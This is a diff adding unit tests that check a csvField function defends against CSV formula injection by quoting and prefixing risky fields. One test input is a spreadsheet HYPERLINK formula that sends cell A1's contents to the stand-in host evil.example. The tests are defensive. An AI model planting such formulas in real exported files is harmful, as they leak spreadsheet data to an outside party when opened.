@@ -22,6 +22,27 @@ describe('csvField', () => {
   });
 });
 
+describe('csvField against formula injection (OWASP)', () => {
+  it('neutralises text a spreadsheet would run: a single quote first, and quoted', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")"`);
+    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
+    expect(csvField('+1')).toBe(`"'+1"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('\tcmd')).toBe(`"'\tcmd"`);
+    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
+    expect(csvField('=1,2')).toBe(`"'=1,2"`);
+  });
+
+  it('leaves numbers, and text that is a plain negative number, as numbers', () => {
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(-1.5)).toBe('-1.5');
+    expect(csvField('-5')).toBe('-5');
+    expect(csvField('-1.5')).toBe('-1.5');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('lan@shop')).toBe('lan@shop');
+  });
+});
+
 describe('toCsv', () => {
   it('writes the rows of a staff report with a BOM, CRLF and flattened shifts', () => {
     const report: StaffChatReport = {
